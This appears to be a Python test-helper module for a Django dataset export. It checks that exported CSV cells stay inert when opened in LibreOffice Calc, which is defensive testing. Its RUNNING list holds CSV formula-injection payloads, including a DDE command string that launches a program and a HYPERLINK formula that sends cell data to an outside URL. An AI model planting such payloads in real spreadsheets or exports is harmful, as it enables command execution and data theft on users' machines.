"""The programs that users open an export with, and what no program must trip over."""

import hashlib
import io
import json
import shutil
import subprocess
from dataclasses import dataclass
from xml.etree import ElementTree

from django.core.management import call_command

# Debian 12 calls 7-Zip's program 7zz, later ones and others call it 7z.
SEVEN_ZIP = shutil.which("7z") or shutil.which("7zz") or "7z"
PATIENCE_SECONDS = 120

# What a spreadsheet would run; the tables have it behind an apostrophe.
RUNNING = [
    '=HYPERLINK("https://example.com/?"&A1;"clic")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "＝1+1",
]
HARMLESS = [
    'dijo "sí", y se fue',
    '"',
    "'comillas'",
    "dos\nlíneas",
    "dos\r\nlíneas",
    "uno;dos",
    "coma, coma,",
    "ñandú, pingüino, cigüeña",
    "😀 👩‍🏫",
    "   tres espacios",
    "dos  espacios ",
    "007",
    "1.5",
    "1,5",
    "true",
    "NA",
    "2026-01-08",
    "1e5",
]
LONG = "palabra, " * 6000  # longer than a cell of Excel's may be


def as_cell(text):
    """How the tables write that text."""
    return f"'{text}" if text in RUNNING else text


def run(*command):
    """What that program prints, on both its outputs, once it has ended well."""
    done = subprocess.run(  # noqa: S603 - nothing in the command comes from outside
        command, capture_output=True, timeout=PATIENCE_SECONDS
    )
    output = (done.stdout + done.stderr).decode()
    assert done.returncode == 0, output
    return output


def export_to(path, form, **options):
    """Where the command has put an export in that form."""
    quiet = {"stdout": io.StringIO(), "stderr": io.StringIO()}
    call_command("export_dataset", output=path, format=form, **quiet, **options)
    return path


def manifest_of(folder):
    return json.loads((folder / "manifest.json").read_text(encoding="utf-8"))


def sums_of(folder):
    """Path → size and SHA-256 of each file, as they lie there."""
    return {
        path.relative_to(folder).as_posix(): sum_of(path.read_bytes())
        for path in folder.rglob("*")
        if path.is_file()
    }


def sum_of(content):
    return len(content), hashlib.sha256(content).hexdigest()


def sums_in(manifest):
    """The same as the manifest says it."""
    return {file["path"]: (file["size"], file["sha256"]) for file in manifest["files"]}


@dataclass(frozen=True)
class Sheet:
    """A CSV file as LibreOffice Calc shows it: its rows of texts, and the formulas among them."""

    rows: list[list[str]]
    formulas: list[str]

    def column(self, name):
        place = self.rows[0].index(name)
        return [row[place] for row in self.rows[1:]]


def open_in_calc(*tables, options, folder):
    """A sheet for each of those CSV files, imported with those options; `folder` is for Calc."""
    profile = f"-env:UserInstallation=file://{folder}/profile"
    imported = f"--infilter=Text - txt - csv (StarCalc):{options}"
    converted = ("--convert-to", "fods", "--outdir", str(folder))
    run("soffice", "--headless", profile, imported, *converted, *map(str, tables))
    return [_sheet(folder / f"{table.stem}.fods") for table in tables]


def calc_text(text):
    """A cell's text as Calc keeps it, for which all line breaks are one."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


# What the import dialogue says, by numbers: commas, quotation marks, UTF-8, from the first line.
# Then every column as text, as somebody chooses who knows what is in it, ...
AS_TEXT = f"44,34,76,1,{'/'.join(f'{column}/2' for column in range(1, 100))},0,true"
# ... or guessing what each cell is, and running what looks like a formula.
AS_GUESSED = "44,34,76,1,,0,false,true,false,false,false,-1,true"

_TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
_TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"
_FORMULA = f"{_TABLE}formula"


def _sheet(path):
    rows = list(ElementTree.parse(path).iter(f"{_TABLE}table-row"))  # noqa: S314 - Calc wrote it
    width = len([cell for cell in rows[0] if _text_of(cell)])
    formulas = [cell.attrib[_FORMULA] for row in rows for cell in row if _FORMULA in cell.attrib]
    return Sheet([_texts_of(row, width) for row in rows], formulas)


def _texts_of(row, width):
    """The texts of its first cells; cells that repeat are written once, with their number."""
    texts = []
    for cell in row:
        repeated = int(cell.get(f"{_TABLE}number-columns-repeated", "1"))
        texts += [_text_of(cell)] * min(repeated, width - len(texts))
    return texts


def _text_of(cell):
    return "\n".join(map(_line, cell.iter(f"{_TEXT}p")))


def _line(paragraph):
    """A paragraph's text, in which repeated spaces and tabs are elements."""
    text = paragraph.text or ""
    for part in paragraph:
        spaces = " " * int(part.get(f"{_TEXT}c", "1"))
        inner = {f"{_TEXT}s": spaces, f"{_TEXT}tab": "\t"}.get(part.tag, part.text or "")
        text += inner + (part.tail or "")
    return text
